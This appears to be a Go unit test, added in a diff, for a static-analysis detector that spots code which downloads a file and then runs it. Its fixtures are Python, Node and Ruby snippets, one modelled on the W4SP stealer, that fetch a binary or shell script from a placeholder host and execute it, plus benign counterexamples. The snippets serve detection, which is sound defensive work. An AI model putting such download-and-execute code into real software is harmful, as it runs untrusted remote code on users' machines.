@@ -1,0 +1,83 @@
+package analysis
+
+import (
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// TestDroppedRun: a file the code downloads and then starts, named the
+// same way (a variable, a literal path), is found with the line that
+// starts it; a download beside a program the code names by itself, a file
+// opened only to read, or a program that is another file is not.
+func TestDroppedRun(t *testing.T) {
+	type found struct {
+		Line, File string
+		OK         bool
+	}
+	for _, tc := range []struct {
+		name    string
+		code    string
+		network bool
+		want    found
+	}{
+		{name: "W4SP: urlretrieve, chmod, Popen of the same variable",
+			code: "import os, stat, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), \"pyhelper\")\n" +
+				"urllib.request.urlretrieve(\"https://files.example.org/bin/linux-amd64\", p)\nos.chmod(p, stat.S_IRWXU)\n" +
+				"subprocess.Popen([p], start_new_session=True)\n",
+			network: true,
+			want:    found{Line: "subprocess.Popen([p], start_new_session=True)", File: "p", OK: true}},
+		{name: "a literal path downloaded and run by sh",
+			code:    "from urllib.request import urlretrieve\nurlretrieve('https://x.example/i.sh', filename='/tmp/i.sh')\nsubprocess.check_call(['sh', '/tmp/i.sh'])\n",
+			network: true,
+			want:    found{Line: "subprocess.check_call(['sh', '/tmp/i.sh'])", File: "'/tmp/i.sh'", OK: true}},
+		{name: "requests written with open(…, 'wb') and run by the interpreter",
+			code: "import requests, subprocess, sys\nr = requests.get(URL)\nwith open(dest, 'wb') as f:\n    f.write(r.content)\n" +
+				"subprocess.run([sys.executable, dest], check=True)\n",
+			network: true,
+			want:    found{Line: "subprocess.run([sys.executable, dest], check=True)", File: "dest", OK: true}},
+		{name: "os.system of the downloaded file's path",
+			code:    "wget.download(u, out='./tool')\nos.system('./tool --install')\n",
+			network: false,
+			want:    found{Line: "os.system('./tool --install')", File: `"./tool"`, OK: true}},
+		{name: "node: fetched into a write stream, then execFileSync",
+			code:    "https.get(u, r => r.pipe(fs.createWriteStream(bin)));\nchild_process.execFileSync(bin, ['--serve']);\n",
+			network: true,
+			want:    found{Line: "child_process.execFileSync(bin, ['--serve']);", File: "bin", OK: true}},
+		{name: "ruby: copy_stream then system",
+			code:    "IO.copy_stream(URI.open(u), path)\nFile.chmod(0755, path)\nsystem(path)\n",
+			network: true,
+			want:    found{Line: "system(path)", File: "path", OK: true}},
+
+		{name: "benign: data downloaded, a literal program run (cmake)",
+			code: "urllib.request.urlretrieve(\"https://x.example/data.tgz\", \"third_party/data.tgz\")\n" +
+				"subprocess.check_call([\"cmake\", \"-S\", \".\", \"-B\", \"build\"])\n",
+			network: true},
+		{name: "benign: downloaded archive, the program run is another file",
+			code:    "urlretrieve(url, archive)\nsubprocess.run(['tar', 'xzf', archive])\nsubprocess.run([tool])\n",
+			network: true},
+		{name: "benign: a file opened to read with an encoding, then run",
+			code:    "requests.post(u)\nwith open(script, encoding='utf-8') as f:\n    print(f.read())\nsubprocess.run([script])\n",
+			network: true},
+		{name: "benign: a written file run, but the code reaches no network",
+			code:    "with open('gen.sh', 'w') as f:\n    f.write('echo hi')\nsubprocess.run(['sh', 'gen.sh'])\n",
+			network: false},
+		{name: "benign: the download's target is computed by a call, not a name",
+			code:    "urlretrieve(u, os.path.join(d, 'x'))\nsubprocess.Popen([os.path.join(d, 'x')])\n",
+			network: true},
+		{name: "benign: an f-string target is no known path",
+			code:    "urlretrieve(u, f\"{d}/x\")\nsubprocess.Popen([f\"{d}/x\"])\n",
+			network: true},
+		{name: "benign: urlopen is no open() for writing",
+			code:    "data = urllib.request.urlopen(u, 'wb')\nsubprocess.run([data])\n",
+			network: true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var got found
+			got.Line, got.File, got.OK = droppedRun(tc.code, tc.network)
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("droppedRun (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
